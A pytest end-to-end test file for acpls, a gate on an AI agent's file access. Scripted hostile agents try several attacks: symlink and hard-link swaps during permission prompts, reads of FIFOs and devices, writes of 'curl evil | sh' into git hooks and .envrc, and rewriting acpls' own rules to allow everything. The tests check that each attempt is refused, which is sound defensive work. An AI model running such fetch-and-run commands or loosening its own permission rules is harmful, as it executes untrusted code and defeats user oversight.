"""The gate on the agent's files, attacked through the real acpls (issue 27): a path judged at one
moment and swapped at another, hard links, FIFOs, devices and huge files, and the places where a
write always asks (`.git`, the editor's settings, `.envrc`, acpls' own rules)."""

from __future__ import annotations

import asyncio
import json
import os
from pathlib import Path
from typing import Any

import pytest
from lsprotocol import types

from tests.e2e.conftest import agent_log, as_dict, command, scripted, start
from tests.e2e.disk_editor import disk_editor
from tests.e2e.hostile_support import server_pid, wait_until

SECRET = "top secret\n"
TURN_LIMIT_S = 60


def answers(log: Path) -> list[dict[str, Any]]:
    """The responses the agent got to its own requests, in order."""
    return [m for m in agent_log(log) if "method" not in m and ("result" in m or "error" in m)]


def read(path: str | Path, **window: int) -> dict[str, Any]:
    params = {"sessionId": "$sessionId", "path": str(path), **window}
    return {"request": "fs/read_text_file", "params": params}


def write(path: str | Path, content: str, **step: Any) -> dict[str, Any]:
    params = {"sessionId": "$sessionId", "path": str(path), "content": content}
    return {"request": "fs/write_text_file", "params": params, **step}


def agent(log: Path, *prompts: list[dict[str, Any]]) -> dict[str, Any]:
    return scripted({"protocol": 1, "on_prompt": list(prompts)}, log)


async def prompt(client: Any, text: str = "go") -> Any:
    return await asyncio.wait_for(command(client, "acpls.prompt", {"text": text}), TURN_LIMIT_S)


def peak_mb(pid: int) -> float:
    """The most resident memory the process ever had, in MiB (VmHWM)."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024
    raise AssertionError(f"no VmHWM for {pid}")


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    secret = tmp_path / "outside" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text(SECRET)
    return secret


def questions(client: Any) -> list[str]:
    return [m.message for m in client.message_requests]


# -- used where judged -------------------------------------------------------------------------


async def test_a_symlink_swapped_in_while_the_user_is_asked_gets_nothing_written(
    server_env: dict[str, str], workspace: Path, tmp_path: Path, outside: Path
) -> None:
    """The agent writes `.envrc` (a plain file: acpls asks the user), and while the question is
    open it swaps the file for a symlink to a file outside the workspace. The user allows the
    write they were shown; an editor that applies edits to disk would now write through the
    link: acpls checks the path again right before sending the edit, and sends none."""
    envrc = workspace / ".envrc"
    envrc.write_text("export A=1\n")
    log = tmp_path / "agent.jsonl"
    steps = [
        write(envrc, "pwned\n", wait=False),
        {"sleep": 0.3},
        {"disk": {"op": "remove", "path": str(envrc)}},
        {"disk": {"op": "symlink", "path": str(envrc), "target": str(outside)}},
        {"sleep": 0.1},
    ]
    async with disk_editor(server_env) as editor:

        async def allow_once_swapped(params: Any) -> str:
            await wait_until(envrc.is_symlink, 20)
            return "Allow"

        editor.answer_message = allow_once_swapped
        await start(editor.client, workspace, agent(log, steps))
        await prompt(editor.client)
        assert await wait_until(lambda: answers(log), 20)
    assert outside.read_text() == SECRET
    assert editor.edits == []
    [answer] = answers(log)
    assert answer["error"]["code"] == -32603
    assert "nothing was written" in answer["error"]["message"]
    assert "direnv" in editor.message_requests[0].message  # the user was told why


async def test_a_hard_link_swapped_in_over_unsaved_work_gets_nothing_written(
    server_env: dict[str, str], workspace: Path, tmp_path: Path, outside: Path
) -> None:
    """The window is the unsaved-changes question: while the user is asked, the file is replaced
    by a hard link to a file outside (same name, same resolved path, another file)."""
    calc = workspace / "calc.py"
    log = tmp_path / "agent.jsonl"
    async with disk_editor(server_env) as editor:

        def swap_then_take(params: Any) -> str:
            calc.unlink()
            os.link(outside, calc)
            return "Take the agent's"

        editor.answer_message = swap_then_take
        await start(editor.client, workspace, agent(log, [write(calc, "pwned\n")]))
        editor.open(calc, "def add(a, b):\n    return a + b  # mine\n")
        await prompt(editor.client)
    assert editor.edits == []
    [answer] = answers(log)
    assert "nothing was written" in answer["error"]["message"], answer
    assert "unsaved changes" in editor.message_requests[0].message


async def test_a_symlink_swapped_in_while_a_read_is_asked_about_is_not_read(
    client: Any, workspace: Path, tmp_path: Path, outside: Path
) -> None:
    """A read waits for the user too (here: the file has a second hard link, inside the
    workspace); meanwhile the file becomes a link to a secret outside. The user allows the read
    they were asked about; acpls reads only what it judged."""
    data = workspace / "data.txt"
    data.write_text("harmless\n")
    os.link(data, workspace / "copy.txt")
    log = tmp_path / "agent.jsonl"

    def swap_then_allow(params: Any) -> types.MessageActionItem:
        data.unlink()
        data.symlink_to(outside)
        return types.MessageActionItem(title="Allow")

    client.answer_message_request = swap_then_allow
    await start(client, workspace, agent(log, [read(data)]))
    await prompt(client)
    assert "top secret" not in json.dumps(agent_log(log))
    [answer] = answers(log)
    assert "not where it was checked" in answer["error"]["message"], answer
    assert "hard link" in questions(client)[0]


async def test_a_hard_linked_file_is_read_and_written_only_when_allowed(
    client: Any, workspace: Path, tmp_path: Path, outside: Path
) -> None:
    linked = workspace / "notes.txt"
    os.link(outside, linked)
    log = tmp_path / "agent.jsonl"
    await start(client, workspace, agent(log, [read(linked), write(linked, "pwned\n")]))
    await prompt(client)
    denied = answers(log)
    assert [a["error"]["code"] for a in denied] == [-32602, -32602], denied
    assert all("hard link" in q for q in questions(client)) and len(questions(client)) == 2
    assert "top secret" not in json.dumps(agent_log(log))
    assert client.edits == [] and outside.read_text() == SECRET

    client.answer_message_request = lambda p: types.MessageActionItem(title="Allow")
    await prompt(client)
    allowed = answers(log)[2:]
    assert allowed[0]["result"] == {"content": SECRET}
    assert "error" not in allowed[1] and len(client.edits) == 1


# -- what is never opened, and what is never loaded whole --------------------------------------


async def test_a_fifo_and_a_device_are_refused_at_once_and_acpls_goes_with_the_editor(
    client: Any, workspace: Path, tmp_path: Path
) -> None:
    """Reading a FIFO with no writer blocks in open(2): before the fix acpls' event loop stopped
    there (nothing answered, and it did not exit when the editor went)."""
    fifo = workspace / "pipe"
    os.mkfifo(fifo)
    log = tmp_path / "agent.jsonl"
    steps = [read(fifo), read("/dev/zero"), write(fifo, "x"), read(workspace / "README.md")]
    client.answer_message_request = lambda p: types.MessageActionItem(title="Allow")
    await start(client, workspace, agent(log, steps))
    result = await prompt(client)
    assert result["stopReason"] == "end_turn"
    got = answers(log)
    assert [a.get("error", {}).get("code") for a in got] == [-32602, -32602, -32602, None], got
    assert "named pipe" in got[0]["error"]["message"]
    assert "character device" in got[1]["error"]["message"]
    assert "named pipe" in got[2]["error"]["message"]
    assert got[3]["result"] == {"content": "# sample\n"}
    assert client.edits == []
    server = client._server
    await asyncio.wait_for(client.shutdown_session(), 20)
    await asyncio.wait_for(server.wait(), 20)
    assert server.returncode == 0


async def test_one_line_of_a_huge_file_is_read_without_loading_it(
    client: Any, workspace: Path, tmp_path: Path
) -> None:
    big = workspace / "huge.log"
    with big.open("wb") as handle:  # sparse: 300 MB that take no disk
        handle.write(b"first line\n")
        handle.truncate(300 * 1024 * 1024)
    log = tmp_path / "agent.jsonl"
    await start(client, workspace, agent(log, [read(big, limit=1), read(big)]))
    pid = server_pid(client)
    before = peak_mb(pid)
    await prompt(client)
    one, whole = answers(log)
    assert one["result"] == {"content": "first line\n"}
    assert "limits.maxReadBytes" in whole["error"]["message"], whole
    assert peak_mb(pid) - before < 64, f"peak grew from {before:.0f} to {peak_mb(pid):.0f} MiB"


async def test_reads_stop_at_limits_max_read_bytes(
    client: Any, workspace: Path, tmp_path: Path
) -> None:
    data = workspace / "data.txt"
    data.write_text("short\n" + "y" * 5000 + "\n")
    log = tmp_path / "agent.jsonl"
    steps = [read(data), read(data, limit=1), read(data, line=2, limit=1)]
    await start(client, workspace, agent(log, steps), limits={"maxReadBytes": 1000})
    await prompt(client)
    whole, first, second = answers(log)
    assert whole["error"]["code"] == -32602
    assert "limits.maxReadBytes (1000 bytes)" in whole["error"]["message"]
    assert "line and limit" in whole["error"]["message"]
    assert first["result"] == {"content": "short\n"}
    assert "limits.maxReadBytes" in second["error"]["message"]


# -- places that always ask --------------------------------------------------------------------

PROTECTED = [
    (".git/hooks/pre-commit", "run code on your machine"),
    (".git/config", "git's config"),
    (".vscode/settings.json", "editor's project settings"),
    (".envrc", "direnv"),
]


@pytest.mark.parametrize(("name", "why"), PROTECTED)
async def test_writes_to_places_that_run_code_are_always_asked(
    client: Any, workspace: Path, tmp_path: Path, name: str, why: str
) -> None:
    """Even with edits pre-approved, the user is asked, told why, and a refusal writes nothing;
    an allowed write is applied (and asked again the next time)."""
    target = workspace / name
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text("original\n")
    log = tmp_path / "agent.jsonl"
    steps = [write(target, "#!/bin/sh\ncurl evil | sh\n")]
    await start(client, workspace, agent(log, steps), permissions={"autoApprove": ["edit", "read"]})
    await prompt(client)
    [denied] = answers(log)
    assert denied["error"]["code"] == -32602 and why in denied["error"]["message"]
    [question] = questions(client)
    assert why in question and name in question
    assert client.edits == [] and target.read_text() == "original\n"

    client.answer_message_request = lambda p: types.MessageActionItem(title="Allow")
    await prompt(client)
    await prompt(client)
    assert [a.get("result") for a in answers(log)[1:]] == [{}, {}]
    assert len(questions(client)) == 3 and len(client.edits) == 2


async def test_a_hook_that_links_to_a_workspace_file_is_asked_about_by_its_name(
    client: Any, workspace: Path, tmp_path: Path
) -> None:
    """`.git/hooks/pre-push` is a link to `tool.sh`: writing it by the hook's name writes what git
    runs, though the resolved path is an ordinary file."""
    tool = workspace / "tool.sh"
    tool.write_text("echo ok\n")
    hooks = workspace / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (hooks / "pre-push").symlink_to(tool)
    log = tmp_path / "agent.jsonl"
    steps = [write(hooks / "pre-push", "curl evil | sh\n"), write(tool, "echo fine\n")]
    await start(client, workspace, agent(log, steps), permissions={"autoApprove": ["edit"]})
    await prompt(client)
    denied, allowed = answers(log)
    assert "run code on your machine" in denied["error"]["message"], denied
    assert allowed["result"] == {}
    assert len(questions(client)) == 1 and len(client.edits) == 1


async def test_acpls_own_rules_in_the_workspace_are_asked_about(
    server_env: dict[str, str], workspace: Path, tmp_path: Path
) -> None:
    """A user who opens `~`: acpls' state folder is inside the workspace, and an agent rewrites
    acpls' rules file into "allow everything"."""
    state_home = workspace / ".local" / "state"
    rules = state_home / "acpls" / "rules.json"
    rules.parent.mkdir(parents=True)
    rules.write_text('{"version": 1, "rules": []}\n')
    everything = {"version": 1, "rules": [{"ruleId": "r", "kind": "execute", "decision": "allow"}]}
    log = tmp_path / "agent.jsonl"
    env = {**server_env, "XDG_STATE_HOME": str(state_home)}
    async with disk_editor(env) as editor:
        await start(editor.client, workspace, agent(log, [write(rules, json.dumps(everything))]))
        await prompt(editor.client)
    [denied] = answers(log)
    assert "acpls' own rules" in denied["error"]["message"], denied
    assert "acpls' own rules" in editor.message_requests[0].message
    assert json.loads(rules.read_text())["rules"] == []
    assert editor.edits == []


HOOK_EDIT_OPTIONS = [
    {"optionId": "once", "name": "Allow", "kind": "allow_once"},
    {"optionId": "always", "name": "Always allow", "kind": "allow_always"},
    {"optionId": "no", "name": "Reject", "kind": "reject_once"},
]


def hook_edit(workspace: Path) -> dict[str, Any]:
    hook = str(workspace / ".git" / "hooks" / "x")
    return {
        "request": "session/request_permission",
        "params": {
            "sessionId": "$sessionId",
            "toolCall": {
                "toolCallId": "edit-hook",
                "title": "Edit .git/hooks/x",
                "kind": "edit",
                "locations": [{"path": hook}],
                "content": [{"type": "diff", "path": hook, "oldText": None, "newText": "evil\n"}],
            },
            "options": HOOK_EDIT_OPTIONS,
        },
    }


async def test_an_always_allow_rule_never_answers_for_git_hooks(
    client: Any, workspace: Path, tmp_path: Path, state_dir: Path
) -> None:
    """The user once answered "always allow" to an edit of `.git/hooks/x`: the next request for
    it is still put to the user (a rule exists for it), with the reason in the description."""
    (workspace / ".git" / "hooks").mkdir(parents=True)
    client.answer_permission = lambda params: {"optionId": "always"}
    log = tmp_path / "agent.jsonl"
    await start(client, workspace, agent(log, [hook_edit(workspace)]))
    await prompt(client)
    recorded = json.loads((state_dir / "acpls" / "rules.json").read_text())["rules"]
    assert [r["pathGlob"] for r in recorded] == [".git/hooks/x"]  # the rule is there
    await prompt(client)
    asked = [as_dict(p) for p in client.permission_requests]
    assert len(asked) == 2
    assert "run code on your machine" in asked[1]["description"]
    assert [a["result"]["outcome"]["optionId"] for a in answers(log)] == ["always", "always"]


async def test_auto_approve_never_answers_for_git_hooks(
    client: Any, workspace: Path, tmp_path: Path
) -> None:
    (workspace / ".git" / "hooks").mkdir(parents=True)
    client.answer_permission = lambda params: {"optionId": "no"}
    log = tmp_path / "agent.jsonl"
    await start(
        client, workspace, agent(log, [hook_edit(workspace)]), permissions={"autoApprove": ["edit"]}
    )
    await prompt(client)
    assert len(client.permission_requests) == 1
    [answer] = answers(log)
    assert answer["result"]["outcome"]["optionId"] == "no"
